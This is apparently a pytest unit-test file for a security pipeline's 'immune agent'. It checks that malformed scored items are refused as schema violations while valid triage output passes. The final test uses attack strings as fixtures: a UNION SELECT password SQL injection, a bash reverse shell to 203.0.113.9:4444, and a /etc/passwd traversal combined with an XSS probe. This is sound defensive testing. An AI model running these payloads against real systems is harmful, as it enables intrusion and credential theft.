"""The immune agent's input, the internal ``scored`` topic, takes any producer's message: what is not a scored
item as triage writes one is refused (to be dead-lettered) and the rest of its message is still judged."""

from __future__ import annotations

import copy
from typing import Any

import orjson
import pytest

from agents.pipeline import scored_problem, unjudged
from agents.types import RawMessage
from tests.unit.test_state_change import item, stages


def good() -> dict[str, Any]:
    return item(1000.0, "ALLOW")


def changed(path: tuple[str, ...], value: Any) -> dict[str, Any]:
    doc = good()
    target = doc
    for key in path[:-1]:
        target = target[key]
    if value is KeyError:
        del target[path[-1]]
    else:
        target[path[-1]] = value
    return doc


BAD = [
    1, "x", None, [], {},
    changed(("event",), "e"), changed(("reflex",), KeyError), changed(("neutrophil",), []),
    changed(("event", "event_id"), 7), changed(("event", "entity"), None), changed(("event", "entity"), "a\x00b"),
    changed(("event", "entity"), "x" * 300), changed(("event", "kind"), "nope"), changed(("event", "kind"), 3),
    changed(("event", "http"), "flat"), changed(("event", "ts"), "now"), changed(("event", "ts"), True),
    changed(("reflex", "decision"), None), changed(("reflex", "threat"), "high"),
    changed(("reflex", "anomaly"), KeyError),
    changed(("reflex", "matches"), "m"), changed(("reflex", "matches"), [1]), changed(("reflex", "matches"), [{}]),
    changed(("neutrophil", "score"), None), changed(("neutrophil", "response"), 1), changed(("semantic",), "s"),
    changed(("threat",), {"score": 1.0}), changed(("scrutiny",), "preset"),
]


def test_a_scored_item_as_triage_writes_it_passes() -> None:
    assert scored_problem(good()) is None
    with_semantic = good()
    with_semantic["semantic"] = {"intent": "benign"}
    assert scored_problem(with_semantic) is None


@pytest.mark.parametrize("bad", BAD)
def test_junk_items_are_named(bad: Any) -> None:
    problem = scored_problem(bad)
    assert isinstance(problem, str) and problem


@pytest.mark.parametrize("bad", BAD)
def test_the_pipeline_judges_nothing_from_a_junk_item_but_judges_its_neighbours(bad: Any) -> None:
    first, last = good(), item(1001.0, "BLOCK")
    message = RawMessage(orjson.dumps([first, bad, last]), "scored", 1, 40)
    kept, skipped, refused = unjudged(stages(), [message], now=5.0)
    assert [[i["event"]["event_id"] for i in batch] for batch in kept] == [
        [first["event"]["event_id"], last["event"]["event_id"]]]
    [(number, index, error, original)] = refused
    assert (number, index, error.reason, skipped) == (0, 1, "schema_violation", 0)
    assert orjson.loads(original) == bad


@pytest.mark.parametrize(("value", "reason"), [(b"\xffnot json", "malformed_json"), (b"{}", "schema_violation"),
                                               (b'"text"', "schema_violation"), (b"", "malformed_json")])
def test_a_message_that_is_no_envelope_is_refused_whole(value: bytes, reason: str) -> None:
    fine = RawMessage(orjson.dumps([good()]), "scored", 0, 1)
    kept, _, refused = unjudged(stages(), [RawMessage(value, "scored", 0, 0), fine], now=5.0)
    assert [len(batch) for batch in kept] == [0, 1]
    [(number, index, error, original)] = refused
    assert (number, index, error.reason, original) == (0, None, reason, value)


def test_items_are_not_changed_by_the_check() -> None:
    doc = good()
    before = copy.deepcopy(doc)
    scored_problem(doc)
    assert doc == before


def test_every_item_triage_writes_passes_after_the_topic(event_factory: Any) -> None:
    """The check must never refuse real output: triage's items of every kind, attacks included, as they come
    back from the topic's bytes."""
    from agents.pipeline import Stages, triage

    events = [event_factory(kind, entity=f"e-{kind}-{i}", ts=1_763_800_000.0 + i)
              for i in range(3) for kind in ("http", "process", "network", "auth", "agent_message", "metric")]
    events += [event_factory(uri="/s?q=1%27%20UNION%20SELECT%20password%20FROM%20users--"),
               event_factory("agent_message", entity="rogue",
                             content="running bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
               event_factory(body="GET /../../etc/passwd <script>alert(1)</script>")]
    out = triage(Stages.default(), [RawMessage(orjson.dumps(events), "telemetry", 0, 0)])
    items = [orjson.loads(orjson.dumps(i)) for batch in out.by_entity.values() for i in batch]
    assert len(items) == len(events) and any(i["reflex"]["matches"] for i in items)
    assert [scored_problem(i) for i in items] == [None] * len(items)
